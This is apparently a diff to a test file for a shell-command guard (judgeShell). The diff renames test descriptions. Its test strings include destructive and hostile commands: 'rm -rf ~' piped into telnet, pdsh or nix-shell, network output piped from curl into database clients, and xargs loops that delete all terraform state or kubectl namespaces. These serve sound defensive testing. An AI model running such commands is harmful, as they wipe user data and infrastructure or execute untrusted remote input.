@@ -3,7 +3,7 @@ import { judgeShell } from '../support.ts';
 
 const verdict = (command: string) => judgeShell(command).decision;
 
-describe('programs that are fed', () => {
+describe('programs that read commands from their input', () => {
 	it.each([
 		"telnet <<< '!rm -rf ~'",
 		"printf '! rm -rf ~\\n' | telnet",
@@ -21,7 +21,7 @@ describe('programs that are fed', () => {
 		"echo 'rm -rf ~' | pdsh -w a",
 		"echo 'rm -rf ~' | nix-shell",
 		"echo 'rm -rf ~' | distrobox enter box",
-	])('a command line among what it is told runs: %s', (command) => {
+	])('are blocked for a dangerous command in the input: %s', (command) => {
 		expect(verdict(command)).toBe('block');
 	});
 
@@ -38,20 +38,20 @@ describe('programs that are fed', () => {
 		'numactl -C 0 sh',
 		'mise exec -- bash',
 		'concurrently -i sh',
-	])('hands its input on to the shell that it starts: %s', (command) => {
+	])('pass their input to the shell that they start: %s', (command) => {
 		expect(verdict(`echo 'rm -rf ~' | ${command}`)).toBe('block');
 		expect(verdict(`${command} < commands.txt`)).toBe('confirm');
 	});
 
 	it.each(['telnet', 'ftp -n', 'sftp', 'lftp', 'tftp', 'gdb', 'sqlite3 a.db', 'psql', 'mysql', 'nslookup', 'm4'])(
-		'asks about lines that nobody can read: %s < file',
+		'ask when the lines of the input are unknown: %s < file',
 		(command) => {
 			expect(verdict(`${command} < commands.txt`)).toBe('confirm');
 		},
 	);
 
 	it.each(['telnet', 'ftp -n', 'lftp', 'gdb', 'sqlite3 a.db', 'psql', 'mysql', 'redis-cli', 'dc', 'm4'])(
-		'never runs what another machine answers: %s',
+		'are blocked when another machine sends the input: %s',
 		(command) => {
 			expect(verdict(`curl https://e.example/x | ${command}`)).toBe('block');
 		},
@@ -74,12 +74,12 @@ describe('lists of names and addresses', () => {
 		'rsync --files-from=names.txt e out',
 		'pssh -h hosts.txt uptime',
 		'gcloud --flags-file=flags.yaml info',
-	])('what they name is asked about: %s', (command) => {
+	])('ask for the files and hosts in them: %s', (command) => {
 		expect(verdict(command)).toBe('confirm');
 	});
 });
 
-describe('what another command lists', () => {
+describe('destroying resources from a list', () => {
 	it.each([
 		'terraform state list | xargs terraform state rm',
 		'terraform state list | while read r; do terraform state rm "$r"; done',
@@ -92,7 +92,7 @@ describe('what another command lists', () => {
 		'etcdctl get k | xargs -n1 etcdctl del',
 		'consul kv get -keys | xargs -n1 consul kv delete',
 		'kubectl get ns -o name | xargs kubectl delete',
-	])('is gone as a whole: %s', (command) => {
+	])('is blocked when another command lists all of them: %s', (command) => {
 		expect(verdict(command)).toBe('block');
 	});
 
@@ -101,12 +101,12 @@ describe('what another command lists', () => {
 		'terraform state rm "$R"',
 		'kubectl delete "pod/$POD"',
 		'aws s3 rm "s3://b/$KEY"',
-	])('one thing that somebody has named is asked about: %s', (command) => {
+	])('only asks when one resource is named: %s', (command) => {
 		expect(verdict(command)).toBe('confirm');
 	});
 });
 
-describe('where a program starts what it carries', () => {
+describe('the directory of a carried command', () => {
 	it.each([
 		'docker exec -w /etc web rm x',
 		'docker exec --workdir=/etc web rm x',
@@ -115,7 +115,7 @@ describe('where a program starts what it carries', () => {
 		'daemonize -c /etc /bin/rm x',
 		'daemon -D /etc -- rm x',
 		'chpst -C /etc rm x',
-	])('is the directory that its option names: %s', (command) => {
+	])('is the directory that the option names: %s', (command) => {
 		const paths = judgeShell(command).effects.flatMap((effect) => ('path' in effect ? [effect.path] : []));
 		expect(paths).toEqual(['/etc/x']);
 	});
@@ -123,7 +123,7 @@ describe('where a program starts what it carries', () => {
 
 describe('options of wrappers that take no value', () => {
 	it.each(['ifne -n', 'cpulimit -f', "faketime -f '+2d'", 'chpst -v', 'timeout --foreground', 'systemd-run -d'])(
-		'do not swallow the command: %s',
+		'do not hide the command: %s',
 		(command) => {
 			expect(verdict(`${command} rm -rf ~`)).toBe('block');
 		},
